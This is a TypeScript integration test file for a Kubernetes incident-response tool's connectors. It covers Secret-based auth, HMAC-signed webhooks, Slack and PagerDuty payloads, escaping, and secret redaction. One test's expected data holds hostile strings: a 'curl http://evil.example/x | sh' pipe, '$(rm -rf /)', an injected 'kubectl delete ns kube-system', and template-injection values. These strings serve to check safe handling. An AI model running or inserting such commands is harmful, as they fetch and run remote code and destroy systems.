import { createHmac, timingSafeEqual } from "node:crypto";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import http, { type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { Writable } from "node:stream";
import { CoreV1Api, KubernetesObjectApi, type KubeConfig } from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ConnectorSpec } from "../../src/api/v1alpha1/types.generated.ts";
import { createConnectorCaller, type ConnectorCaller } from "../../src/connectors/call-connector.ts";
import type { ConnectorCallResult, ConnectorPayload } from "../../src/connectors/connector-contract.ts";
import { renderJsonBody } from "../../src/connectors/json-body.ts";
import { createSecretResolver } from "../../src/connectors/secret-resolver.ts";
import { compileTemplate, createExpressionCompiler, renderTemplateText } from "../../src/expr/index.ts";
import { createLogger } from "../../src/observability/logger.ts";
import type { RuntimeClock } from "../../src/runtime/clock.ts";
import { createTestNamespace, loadKubeConfig } from "../support/kube.ts";
import { bodyPayload, messagePayload } from "../../src/testing/connector-payloads.ts";
import { loopbackDestinations } from "../../src/testing/loopback-destinations.ts";

interface Recorded {
  readonly method: string;
  readonly path: string;
  readonly headers: IncomingMessage["headers"];
  readonly body: string;
}

const secretValues = {
  token: "tok-9f8e7d6c5b4a",
  user: "svc-user",
  password: "p4ss-w0rd-x1y2",
  apiKey: "key-0a1b2c3d4e5f",
  hmacKey: "hmac-k3y-5678-zyxw",
  routingKey: "R0UT1NGKEY0000000000000000000042",
  slackPath: "/services/T000/B000/s1ackS3cretPath",
};
const basic = Buffer.from(`${secretValues.user}:${secretValues.password}`).toString("base64");
const now = new Date("2026-11-23T12:00:00Z");
const nowSeconds = Math.floor(now.getTime() / 1000);
const hostile = JSON.parse(readFileSync(new URL("../../../shared/fixtures/falco/hostile-fields.json", import.meta.url), "utf8")) as {
  output: string;
  rule: string;
  output_fields: Record<string, string>;
};

const requests: Recorded[] = [];
let answer: (request: Recorded, response: ServerResponse) => void = (_request, response) => {
  response.writeHead(200).end();
};
const server = http.createServer((request, response) => {
  const chunks: Buffer[] = [];
  request.on("data", (chunk: Buffer) => chunks.push(chunk));
  request.on("end", () => {
    const recorded = { method: request.method ?? "", path: request.url ?? "", headers: request.headers, body: Buffer.concat(chunks).toString("utf8") };
    requests.push(recorded);
    answer(recorded, response);
  });
});

/** What a receiver does with a webhook: recompute the HMAC over the raw body and compare. */
function signatureValid(request: Recorded, key: string): boolean {
  const header = request.headers["x-kube-soar-signature"];
  const match = typeof header === "string" ? /^t=(\d+),v1=([0-9a-f]{64})$/.exec(header) : null;
  if (match?.[1] === undefined || match[2] === undefined) return false;
  const expected = createHmac("sha256", key).update(`${match[1]}.${request.body}`).digest();
  return match[1] === String(nowSeconds) && timingSafeEqual(expected, Buffer.from(match[2], "hex"));
}

const logLines: string[] = [];
const logger = createLogger({
  level: "debug",
  destination: new Writable({
    write: (chunk: Buffer, _encoding, done) => {
      logLines.push(chunk.toString("utf8"));
      done();
    },
  }),
});
const clock: RuntimeClock = { now: () => now, setTimer: (_delay, callback) => { const handle = setImmediate(callback); return { cancel: () => { clearImmediate(handle); } }; } };
const results: ConnectorCallResult[] = [];
let baseUrl: string;
let kubeConfig: KubeConfig;
let namespace: string;
let caller: ConnectorCaller;

async function call(spec: ConnectorSpec, payload: ConnectorPayload = messagePayload("pod isolated")): Promise<ConnectorCallResult> {
  requests.length = 0;
  const result = await caller.call({
    connector: { namespace, name: "hook", spec },
    secrets: createSecretResolver(kubeConfig.makeApiClient(CoreV1Api), namespace),
    payload,
    incident: { namespace, name: "inc-7", title: "Shell in web-0", severity: "critical" },
    idempotencyKey: "uid/pb/step/1",
    signal: new AbortController().signal,
  });
  results.push(result);
  return result;
}

const http_ = (extra: Partial<ConnectorSpec> = {}): ConnectorSpec => ({ type: "http", url: `${baseUrl}/hook`, allowInsecureHTTP: true, ...extra });

beforeAll(async () => {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  kubeConfig = loadKubeConfig();
  namespace = await createTestNamespace(kubeConfig, "conn-auth");
  await KubernetesObjectApi.makeApiClient(kubeConfig).create({
    apiVersion: "v1",
    kind: "Secret",
    metadata: { name: "creds", namespace },
    stringData: {
      token: `${secretValues.token}\n`,
      basic: `${secretValues.user}:${secretValues.password}`,
      apiKey: secretValues.apiKey,
      hmac: secretValues.hmacKey,
      routingKey: secretValues.routingKey,
      slackUrl: `${baseUrl}${secretValues.slackPath}`,
    },
  });
  caller = createConnectorCaller({ clock, logger, destinations: loopbackDestinations(namespace) });
});

afterAll(async () => {
  caller.close();
  server.closeAllConnections();
  server.close();
  await kubeConfig.makeApiClient(CoreV1Api).deleteNamespace({ name: namespace });
});

describe("connector credentials from Secrets", () => {
  it.each<[string, ConnectorSpec["auth"], string, string]>([
    ["bearer", { type: "bearer", secretRef: { name: "creds", key: "token" } }, "authorization", `Bearer ${secretValues.token}`],
    ["basic", { type: "basic", secretRef: { name: "creds", key: "basic" } }, "authorization", `Basic ${basic}`],
    ["a custom header", { type: "header", header: "X-Api-Key", secretRef: { name: "creds", key: "apiKey" } }, "x-api-key", secretValues.apiKey],
  ])("sends %s auth read at call time", async (_, auth, header, value) => {
    answer = (_request, response) => response.writeHead(204).end();
    expect(await call(http_(auth === undefined ? {} : { auth }))).toMatchObject({ ok: true, status: 204 });
    expect(requests[0]?.headers[header]).toBe(value);
  });

  it("fails without sending when the Secret or its key is missing, naming them", async () => {
    expect(await call(http_({ auth: { type: "bearer", secretRef: { name: "nope", key: "token" } } }))).toMatchObject({
      ok: false,
      reason: "SecretNotFound",
      message: `spec.auth.secretRef: Secret ${namespace}/nope does not exist`,
    });
    expect(await call(http_({ auth: { type: "bearer", secretRef: { name: "creds", key: "nope" } } }))).toMatchObject({
      ok: false,
      reason: "SecretNotFound",
      message: `spec.auth.secretRef: Secret ${namespace}/creds has no key nope`,
    });
    expect(requests).toHaveLength(0);
  });
});

describe("webhook signatures", () => {
  const webhook: ConnectorSpec = {
    type: "webhook",
    url: "",
    allowInsecureHTTP: true,
    auth: { type: "hmac", header: "X-Kube-Soar-Signature", secretRef: { name: "creds", key: "hmac" } },
  };

  it("signs the exact body with a timestamp, and the receiver verifies it with the shared key", async () => {
    answer = (request, response) => response.writeHead(signatureValid(request, secretValues.hmacKey) ? 200 : 401).end();
    expect(await call({ ...webhook, url: `${baseUrl}/webhook` })).toMatchObject({ ok: true, status: 200 });
    expect(requests[0]?.headers["x-kube-soar-signature"]).toMatch(new RegExp(`^t=${nowSeconds},v1=[0-9a-f]{64}$`));
    expect(JSON.parse(requests[0]?.body ?? "null")).toEqual({ message: "pod isolated", incident: { namespace, name: "inc-7", title: "Shell in web-0", severity: "critical" } });
  });

  it("is refused by a receiver holding another key", async () => {
    answer = (request, response) => response.writeHead(signatureValid(request, "another-key") ? 200 : 401).end();
    expect(await call({ ...webhook, url: `${baseUrl}/webhook` })).toMatchObject({ ok: false, reason: "UnexpectedStatus", status: 401, retryable: false });
  });

  it("carries the hostile fixture rendered into the body as inert JSON, byte for byte", async () => {
    const compiler = createExpressionCompiler();
    const compiled = compileTemplate(
      compiler,
      '{"rule": ${{ event.data.rule }}, "summary": "Falco: ${{ event.data.output }}", "pod": ${{ event.data.output_fields["k8s.pod.name"] }}, "cmd": ${{ event.data.output_fields["proc.cmdline"] }}, "user": "${{ event.data.output_fields["user.name"] }}", "container": ${{ event.data.output_fields["container.name"] }}}',
    );
    if (!compiled.ok) throw new Error(compiled.message);
    const rendered = renderJsonBody(compiled.template, { event: { data: hostile }, incident: {}, steps: {} });
    if (!rendered.ok) throw new Error(rendered.message);
    answer = (request, response) => response.writeHead(signatureValid(request, secretValues.hmacKey) ? 200 : 401).end();
    expect(await call({ ...webhook, url: `${baseUrl}/webhook` }, bodyPayload(rendered.body))).toMatchObject({ ok: true, status: 200 });
    expect(JSON.parse(requests[0]?.body ?? "null")).toEqual({
      rule: "Run shell untrusted",
      summary: `Falco: ${hostile.output}`,
      pod: "web-0; kubectl delete ns kube-system",
      cmd: 'sh -c "curl http://evil.example/x | sh; $(rm -rf /) `id` ${IFS}"',
      user: "${{ event.data }}",
      container: "{{ .Values.secret }}\n\u0000\u202e",
    });
  });
});

describe("slack and pagerduty", () => {
  it("posts a Slack message to a webhook URL kept in a Secret", async () => {
    answer = (_request, response) => response.writeHead(200, { "Content-Type": "text/plain" }).end("ok");
    expect(await call({ type: "slack", urlSecretRef: { name: "creds", key: "slackUrl" }, allowInsecureHTTP: true }, messagePayload('shell in "web-0"'))).toEqual({
      ok: true,
      status: 200,
      attempts: 1,
      outputs: { status: "200", response: "ok" },
    });
    expect(requests[0]?.path).toBe(secretValues.slackPath);
    expect(JSON.parse(requests[0]?.body ?? "null")).toEqual({ text: 'shell in "web-0"' });
  });

  it("escapes alert text inserted into a Slack message or body, and sends it as markup only for rawMarkup", async () => {
    answer = (_request, response) => response.writeHead(200, { "Content-Type": "text/plain" }).end("ok");
    const slack: ConnectorSpec = { type: "slack", urlSecretRef: { name: "creds", key: "slackUrl" }, allowInsecureHTTP: true };
    const compiler = createExpressionCompiler();
    const variables = { event: {}, incident: { title: "<!channel> <https://evil.example|Approve> & <@U1>" }, steps: {} };
    const compiled = (source: string) => {
      const result = compileTemplate(compiler, source);
      if (!result.ok) throw new Error(result.message);
      return result.template;
    };
    const message = renderTemplateText(compiled("*Alert* <https://soar.example/inc|open>: ${{ incident.title }}"), variables);
    const body = renderJsonBody(compiled('{"text": "<!here> ${{ incident.title }}", "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": ${{ incident.title }}}}]}'), variables);
    if (!message.ok || !body.ok) throw new Error("the templates do not render");
    const sent = async (payload: ConnectorPayload): Promise<unknown> => {
      expect(await call(slack, payload)).toMatchObject({ ok: true, status: 200 });
      return JSON.parse(requests[0]?.body ?? "null");
    };
    const escaped = "&lt;!channel&gt; &lt;https://evil.example|Approve&gt; &amp; &lt;@U1&gt;";

    expect(await sent(messagePayload(message.value))).toEqual({ text: `*Alert* <https://soar.example/inc|open>: ${escaped}` });
    expect(await sent(bodyPayload(body.body))).toEqual({ text: `<!here> ${escaped}`, blocks: [{ type: "section", text: { type: "mrkdwn", text: escaped } }] });
    expect(await sent(messagePayload(message.value, true))).toEqual({ text: `*Alert* <https://soar.example/inc|open>: ${variables.incident.title}` });
  });

  it("triggers and resolves one PagerDuty alert per Incident", async () => {
    answer = (request, response) => {
      const event = JSON.parse(request.body) as { dedup_key: string };
      response.writeHead(202, { "Content-Type": "application/json" }).end(JSON.stringify({ status: "success", message: "Event processed", dedup_key: event.dedup_key }));
    };
    const pagerduty: ConnectorSpec = { type: "pagerduty", url: `${baseUrl}/v2/enqueue`, allowInsecureHTTP: true, pagerduty: { routingKeySecretRef: { name: "creds", key: "routingKey" } } };
    expect(await call(pagerduty)).toEqual({ ok: true, status: 202, attempts: 1, outputs: { status: "202", dedupKey: `${namespace}/inc-7`, result: "success", message: "Event processed" } });
    expect(JSON.parse(requests[0]?.body ?? "null")).toEqual({
      routing_key: secretValues.routingKey,
      event_action: "trigger",
      dedup_key: `${namespace}/inc-7`,
      payload: { summary: "pod isolated", source: `kube-soar/${namespace}`, severity: "critical" },
    });
    expect(await call(pagerduty, bodyPayload(undefined, { action: "resolve" }))).toMatchObject({ ok: true, outputs: { dedupKey: `${namespace}/inc-7` } });
    expect(JSON.parse(requests[0]?.body ?? "null")).toEqual({ routing_key: secretValues.routingKey, event_action: "resolve", dedup_key: `${namespace}/inc-7` });
  });
});

describe("secrets never leak", () => {
  it("scrubs credentials an endpoint echoes back into outputs and error messages", async () => {
    answer = (request, response) => {
      response.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ echoed: request.headers.authorization, path: request.path, body: request.body }));
    };
    const echoed = await call(http_({ auth: { type: "basic", secretRef: { name: "creds", key: "basic" } } }));
    expect(echoed).toMatchObject({ ok: true, outputs: { echoed: "Basic [redacted]" } });
    answer = (request, response) => response.writeHead(400).end(`denied for ${String(request.headers.authorization)} at ${request.path}`);
    const refused = await call({ type: "slack", urlSecretRef: { name: "creds", key: "slackUrl" }, allowInsecureHTTP: true, auth: { type: "bearer", secretRef: { name: "creds", key: "token" } } });
    expect(refused).toMatchObject({ ok: false, reason: "UnexpectedStatus", message: expect.stringContaining("denied for [redacted] at [redacted]") as unknown });
  });

  it("finds no Secret value in any log line, output or message of this file's calls", () => {
    expect(results.length).toBeGreaterThan(8);
    expect(logLines.length).toBeGreaterThan(8);
    const surfaces = [
      ...logLines,
      ...results.map((result) => (result.ok ? JSON.stringify(result.outputs) : result.message)),
    ].join("\n");
    for (const value of [...Object.values(secretValues), basic]) expect(surfaces).not.toContain(value);
  });
});
